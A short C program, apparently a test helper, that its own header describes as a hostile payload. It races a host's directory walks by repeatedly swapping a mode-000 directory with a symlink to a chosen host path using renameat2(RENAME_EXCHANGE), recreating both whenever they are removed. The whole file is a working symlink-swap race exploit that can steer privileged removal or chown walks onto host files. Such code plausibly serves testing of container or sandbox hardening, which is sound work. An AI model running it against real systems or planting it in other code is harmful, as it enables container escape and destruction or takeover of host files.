/* swapdir DIR NAME TARGET - a hostile payload racing the host's walks of
 * what it wrote: in DIR, makes NAME a directory (mode 000, with a
 * subdirectory and a file in it) and a symbolic link to TARGET, a host
 * path, and swaps the two with renameat2(RENAME_EXCHANGE) as fast as it
 * can, so that a walk that looks at NAME twice sees a directory, then the
 * link. Whatever removes either is made again. Runs until killed. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: swapdir DIR NAME TARGET\n");
		return 2;
	}
	char link[256];
	snprintf(link, sizeof(link), ".%s-link", argv[2]);
	const struct timespec pause = {0, 1000000};
	for (;;) {
		/* DIR itself may be removed and made again (rm, then a new copy). */
		int dfd = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		if (dfd < 0) {
			nanosleep(&pause, NULL);
			continue;
		}
		struct stat at, now;
		fstat(dfd, &at);
		/* Until DIR is another directory (or gone). */
		while (stat(argv[1], &now) == 0 && now.st_dev == at.st_dev &&
		       now.st_ino == at.st_ino) {
			if (mkdirat(dfd, argv[2], 0755) == 0) {
				int fd = openat(dfd, argv[2], O_RDONLY | O_DIRECTORY);
				if (fd >= 0) {
					mkdirat(fd, "sub", 0755);
					close(openat(fd, "sub/file", O_WRONLY | O_CREAT, 0644));
					fchmod(fd, 0);
					close(fd);
				}
			}
			symlinkat(argv[3], dfd, link);
			for (int i = 0; i < 100; i++)
				if (renameat2(dfd, argv[2], dfd, link, RENAME_EXCHANGE) < 0)
					break;
		}
		close(dfd);
	}
}
